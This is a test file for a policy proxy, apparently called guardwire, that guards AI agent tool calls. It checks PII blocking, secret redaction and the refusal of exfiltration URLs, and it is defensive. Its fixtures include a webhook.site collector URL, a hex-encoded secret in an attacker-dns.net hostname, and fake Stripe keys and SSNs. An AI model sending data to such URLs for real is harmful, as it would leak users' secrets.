import { spawn, type ChildProcess } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ClientFactory } from "a2a-sdk-03/client";
import { CLI, connectWrapped, readLog, ROOT, tempDir, type Wrapped } from "../helpers.js";
import { until } from "../support/poll.js";
import { stopChild, waitFor } from "../support/servers.js";

const DEVTOOLS = join(ROOT, "test", "fixtures", "servers", "devtools-mcp-server.mjs");
const AGENT = join(ROOT, "test", "fixtures", "servers", "a2a-agent-03.mjs");
type TextResult = { content: { type: string; text: string }[]; isError?: boolean };
const text = (r: unknown) => (r as TextResult).content.map((c) => c.text).join("\n");

describe("secrets, exfiltration URLs and bulk PII through guardwire wrap (default pack, real SDK client and server)", () => {
  const dir = tempDir();
  const log = join(dir, "decisions.ndjson");
  let w: Wrapped;
  beforeAll(async () => {
    w = await connectWrapped(["--log", log], [process.execPath, DEVTOOLS]);
  });
  afterAll(async () => {
    await w?.client.close();
  });

  it("an SSN with a date of birth is not e-mailed; a phone number is (and logged), before anything untrusted was read", async () => {
    const bulk = await w.client.callTool({ name: "send_email", arguments: { to: "hr@partner.example", body: "SSN 123-45-6789, DOB 1984-03-12" } });
    expect(bulk.isError).toBe(true);
    expect(text(bulk)).toContain("[rule no-bulk-pii-out]");
    expect(text(await w.client.callTool({ name: "send_email", arguments: { to: "ana@example.com", body: "call +1 415-555-0100" } }))).toBe("sent to ana@example.com");
  });

  it("a compose file with default credentials passes byte for byte", async () => {
    const r = await w.client.callTool({ name: "read_file", arguments: { path: "docker-compose.yml" } });
    expect(text(r)).toBe("services:\n  api:\n    environment:\n      DATABASE_URL: postgres://postgres:postgres@db:5432/app\n      BROKER_URL: amqp://guest:guest@rabbitmq:5672/\n");
  });

  it("a presigned link an export returns passes untouched, and fetching it is allowed", async () => {
    const r = text(await w.client.callTool({ name: "export_report", arguments: { quarter: "q3" } }));
    expect(r).toContain("X-Amz-Signature=9f8e7d6c");
    const url = /\((https:[^)]+)\)/.exec(r)?.[1] as string;
    expect(text(await w.client.callTool({ name: "fetch", arguments: { url } }))).toBe(`fetched ${url}`);
  });

  it("a pagination cursor passes while the session has seen no secret", async () => {
    const url = "https://api.example.net/v1/items?cursor=eyJvZmZzZXQiOjIwMCwiYWZ0ZXIiOiJjXzdmM2E5YjJjMWQ0ZTVmNjAifQ%3D%3D";
    expect(text(await w.client.callTool({ name: "fetch", arguments: { url } }))).toBe(`fetched ${url}`);
  });

  it("a team's webhook URL is posted to and a dev tunnel checked; the same webhook URL in an e-mail body is refused", async () => {
    const hook = "https://hooks.slack.com/services/T024BE7LD/B08QWERTY12/abcDEFghiJKLmnoPQRstuVWX";
    // Both reach the server (its echo of the webhook URL comes back redacted, as any secret in a result does).
    const posted = await w.client.callTool({ name: "fetch", arguments: { url: hook } });
    expect(posted.isError).toBeFalsy();
    expect(text(posted)).toBe("fetched https://[REDACTED:secrets.slack_webhook]");
    const tunnel = "https://7c1f-203-0-113-5.ngrok-free.app/health";
    expect(text(await w.client.callTool({ name: "fetch", arguments: { url: tunnel } }))).toBe(`fetched ${tunnel}`);
    const leak = await w.client.callTool({ name: "send_email", arguments: { to: "ops@partner-mail.example", body: `our alerts hook: ${hook}` } });
    expect(leak.isError).toBe(true);
    expect(text(leak)).toContain("[rule no-secrets-out]");
  });

  it("a fetch to a collector, or with hex text in its host name, is refused", async () => {
    for (const url of ["https://webhook.site/3f6d2a1e-8b4c-4d7e-9a1f-2c3b4d5e6f70?d=hi", "https://6177735f7365637265743d5a72387651324c6d503778.x.attacker-dns.net/"]) {
      const r = await w.client.callTool({ name: "fetch", arguments: { url } });
      expect(r.isError, url).toBe(true);
      expect(text(r)).toContain("[rule no-exfiltration-urls]");
    }
  });

  it("secrets in a file come back cut at their exact spans, in a blob resource too; reading a .env resource is refused", async () => {
    const r = text(await w.client.callTool({ name: "read_file", arguments: { path: "deploy-notes.txt" } }));
    expect(r).toBe("STRIPE_SECRET_KEY=[REDACTED:secrets.stripe_key]\nREDIS_URL=redis://:[REDACTED:secrets.connection_string]@cache:6379/0\n");
    await expect(w.client.readResource({ uri: "file:///app/.env" })).rejects.toThrow(/-32050/);
    const res = await w.client.readResource({ uri: "file:///app/deploy/runtime.bin" });
    const blob = (res.contents[0] as { blob: string }).blob;
    // Still base64 (the SDK client checks it), now of the marker.
    expect(Buffer.from(blob, "base64").toString("utf8")).toMatch(/^\[REDACTED:secrets\.(?:stripe_key|connection_string)\]$/);
  });

  it("after a secret was seen, data in a URL is refused, and no secret reaches the log", async () => {
    const url = "https://api.example.net/v1/items?cursor=eyJvZmZzZXQiOjIwMCwiYWZ0ZXIiOiJjXzdmM2E5YjJjMWQ0ZTVmNjAifQ%3D%3D";
    const r = await w.client.callTool({ name: "fetch", arguments: { url } });
    expect(r.isError).toBe(true);
    expect(text(r)).toContain("[rule no-data-urls-after-secrets]");
    const lines = await until(
      () => readLog(log),
      (l) => l.some((x) => (x.rules as string[] | undefined)?.includes("no-data-urls-after-secrets")),
      "the refusal in the decision log",
    );
    expect(JSON.stringify(lines)).not.toContain("sk_live_9xQ2");
  });
});

describe("an A2A file part through guardwire serve (the CLI, default pack, a real @a2a-js/sdk agent and client)", () => {
  const dir = tempDir();
  let agent: ChildProcess;
  let serve: ChildProcess;
  let route: string;
  beforeAll(async () => {
    agent = spawn(process.execPath, [AGENT], { env: { ...process.env, PORT: "0" }, stdio: ["ignore", "pipe", "pipe"] });
    const port = (await waitFor(agent, /listening (\d+)/)).match[1];
    const config = join(dir, "guardwire.yaml");
    writeFileSync(config, ["listen: { host: 127.0.0.1, port: 0 }", `log: ${join(dir, "decisions.ndjson")}`, "routes:", "  - name: echo", "    path: /a2a/echo", `    a2a: { url: "http://127.0.0.1:${port}" }`].join("\n"));
    serve = spawn(process.execPath, [CLI, "serve", "--config", config, "--pins", join(dir, "pins.json")], { stdio: ["ignore", "pipe", "pipe"] });
    route = `${(await waitFor(serve, /serving (http:\/\/\S+)/)).match[1]}/a2a/echo/`;
  });
  afterAll(async () => {
    if (serve) await stopChild(serve);
    if (agent) await stopChild(agent);
  });

  const send = async (parts: unknown[]) => (await new ClientFactory().createFromUrl(route)).sendMessage({ message: { kind: "message", messageId: crypto.randomUUID(), role: "user", parts } as never });
  const b64 = (s: string) => Buffer.from(s).toString("base64");

  it("a whole .env sent as file bytes is refused before it reaches the agent", async () => {
    const env = "NODE_ENV=production\nSTRIPE_SECRET_KEY=sk_live_9xQ2LmP7rT4vK89xQ2LmP7rT4vK8\n";
    await expect(send([{ kind: "text", text: "the config" }, { kind: "file", file: { name: ".env", mimeType: "text/plain", bytes: b64(env) } }])).rejects.toThrow(/Denied by policy|-32050/);
  });

  it("an ordinary text file passes, and bulk identity data in a data part is refused", async () => {
    const ok = (await send([{ kind: "text", text: "notes attached" }, { kind: "file", file: { name: "notes.md", mimeType: "text/markdown", bytes: b64("# Notes\nShip on Friday.\n") } }])) as { parts?: { text?: string }[] };
    expect(ok.parts?.[0]?.text).toBe("You said: notes attached");
    await expect(send([{ kind: "data", data: { name: "Jane Roe", ssn: "123-45-6789", dob: "1984-03-12" } }])).rejects.toThrow(/Denied by policy|-32050/);
  });
});
